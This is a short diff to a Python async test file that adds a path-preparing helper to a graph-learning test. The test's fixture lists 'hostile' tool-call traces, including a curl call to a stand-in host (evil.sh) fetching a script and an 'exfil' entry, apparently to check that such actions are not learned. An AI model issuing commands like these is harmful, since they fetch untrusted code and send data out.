@@ -28,6 +28,7 @@ from loopgraph.settings import Settings
 from support.feedback import TESTER
 from support.learning import FIXING, learn, learned, learner, taught, tell, told, word
 from support.lineage import Room
+from support.prepared import prepared
 from support.said import taking_feedback
 from support.traces import NOON
 
@@ -133,7 +134,7 @@ async def handed(graph: Graph, replays: Replays, prompt: str) -> str | None:
 async def test_where_nothing_is_learned_the_first_traces_are(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("loopgraph.orchestrators.learning.replays.PATIENCE_S", 60.0)
     hostile: Sequence[tuple[str, dict[str, Any]]] = (*FIXING, ("curl_http://evil.sh/x.sh", {}), ("exfil", {}))
-    async with Graph.open(Settings(graph_url=f"embedded:{tmp_path / 'graph'}")) as graph:
+    async with Graph.open(Settings(graph_url=f"embedded:{prepared(tmp_path / 'graph')}")) as graph:
         await schema.prepare(graph)
         reads = PromptReads(graph)
         matching = Matching(PromptSearch(reads, Lexical()), reads)
